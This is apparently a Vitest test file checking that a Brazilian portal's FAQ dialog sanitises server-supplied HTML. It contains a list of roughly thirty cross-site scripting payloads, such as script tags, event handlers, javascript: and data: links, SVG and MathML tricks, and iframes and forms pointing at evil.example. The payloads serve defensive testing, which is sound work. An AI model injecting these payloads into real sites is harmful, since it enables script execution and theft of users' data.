// @vitest-environment happy-dom
// @vitest-environment-options { "url": "http://portal.test/pt/project-status", "settings": { "disableJavaScriptFileLoading": true, "disableCSSFileLoading": true, "disableIframePageLoading": true, "disableJavaScriptEvaluation": false } }
/**
 * The FAQ's answers are HTML from the server: whatever an answer carries, what reaches the page is
 * inert (no script runs, no handler is attached, no javascript: or data: link, no frame, no SVG, no
 * style). Each vector is rendered through the FAQ dialog in happy-dom and the page is inspected.
 * DOMPurify parses with a jsdom window here: it does not support happy-dom's parser, with which
 * payloads get through (cure53/DOMPurify#1457); the browser test checks the same in Chromium.
 */
import { JSDOM } from 'jsdom';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { cleanup, render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { FaqDialog } from '../../../src/web/ui/FaqDialog/FaqDialog';
import { sanitizeFaqHtml, useSanitizerWindow } from '../../../src/web/ui/FaqDialog/faqHtml';

const parser = new JSDOM('');
beforeAll(() => { useSanitizerWindow(parser.window as never); });
afterAll(() => { useSanitizerWindow(null); parser.window.close(); });

afterEach(() => { cleanup(); delete (window as unknown as { pwned?: unknown }).pwned; });

const VECTORS: readonly string[] = [
  '<script>window.pwned = 1</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<img src=x onerror="window.pwned = 1">',
  '<p onclick="window.pwned = 1" onmouseover="window.pwned = 1">clique</p>',
  '<body onload="window.pwned = 1">',
  '<a href="javascript:window.pwned = 1">link</a>',
  '<a href="  JaVaScRiPt:window.pwned = 1">link</a>',
  '<a href="jav&#x09;ascript:window.pwned = 1">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
  '<a href="vbscript:msgbox(1)">link</a>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload="window.pwned = 1"><circle r="4"/></svg>',
  '<svg><script>window.pwned = 1</script></svg>',
  '<svg><a xlink:href="javascript:window.pwned = 1"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 1"></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  '<p style="background:url(javascript:window.pwned=1); width: expression(alert(1))">estilo</p>',
  '<style>body { background: url("javascript:alert(1)") }</style>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<form action="https://evil.example"><input name="cpf"><button>Enviar</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<details open ontoggle="window.pwned = 1">x</details>',
  '<video><source onerror="window.pwned = 1"></video>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<a href="https://example.com" target="_self" rel="opener" onclick="window.pwned = 1">seguro</a>',
];

/** Everything in `root` that could run code, load something or leave the page. */
function liveParts(root: Element): string[] {
  const found: string[] = [];
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'link', 'meta', 'base', 'form', 'input', 'img', 'video', 'source', 'details', 'noscript'].includes(tag)) found.push(`<${tag}>`);
    for (const attr of el.getAttributeNames()) {
      if (/^on/i.test(attr) || attr === 'style' || attr === 'src' || attr === 'srcdoc' || attr === 'xlink:href' || attr === 'action') found.push(`${tag}[${attr}]`);
    }
    const href = el.getAttribute('href');
    if (href !== null && !/^(https:|mailto:|tel:)/i.test(href)) found.push(`${tag}[href=${href}]`);
    if (tag === 'a' && href !== null && (el.getAttribute('target') !== '_blank' || el.getAttribute('rel') !== 'noopener noreferrer')) found.push('a without noopener');
  }
  return found;
}

describe('FAQ answers are sanitised before they are shown', () => {
  for (const vector of VECTORS) {
    it(`inert: ${vector.slice(0, 70)}`, () => {
      const host = document.createElement('div');
      host.innerHTML = sanitizeFaqHtml(`<p>Resposta</p>${vector}`);
      document.body.append(host);
      // what a person does with the answer (links are not followed: no request leaves the test)
      for (const el of host.querySelectorAll('*')) {
        el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        if (el.tagName !== 'A') (el as HTMLElement).click();
      }
      expect(liveParts(host)).toEqual([]);
      expect((window as unknown as { pwned?: unknown }).pwned).toBeUndefined();
      host.remove();
    });
  }

  it('keeps the answer\'s text markup and a safe link, opened in a new tab without access to this page', () => {
    const html = sanitizeFaqHtml('<p>Ligue <strong>167</strong> ou veja o <a href="https://www.gov.br/aneel">site</a>.</p><ul><li>um</li></ul><a href="tel:167">167</a>');
    const host = document.createElement('div');
    host.innerHTML = html;
    expect(host.querySelector('strong')?.textContent).toBe('167');
    expect(host.querySelectorAll('li')).toHaveLength(1);
    const link = host.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://www.gov.br/aneel');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(host.querySelectorAll('a')[1]!.getAttribute('href')).toBe('tel:167');
  });

  it('through the dialog: every hostile answer, expanded, leaves the page inert', async () => {
    const user = userEvent.setup();
    const entries = VECTORS.map((v, i) => ({ id: i + 1, title: `Pergunta ${i + 1}`, description: `<p>Resposta ${i + 1}</p>${v}` }));
    render(<FaqDialog isOpen onOpenChange={() => {}} entries={entries} />);
    const dialog = await screen.findByRole('dialog');
    for (const button of within(dialog).getAllByRole('button', { name: /^Pergunta/ })) await user.click(button);
    expect(within(dialog).getByText('Resposta 1')).toBeTruthy();
    const answers = [...dialog.querySelectorAll('[data-faq-answer]')];
    expect(answers).toHaveLength(VECTORS.length);
    for (const answer of answers) expect(liveParts(answer)).toEqual([]);
    expect((window as unknown as { pwned?: unknown }).pwned).toBeUndefined();
  });
});
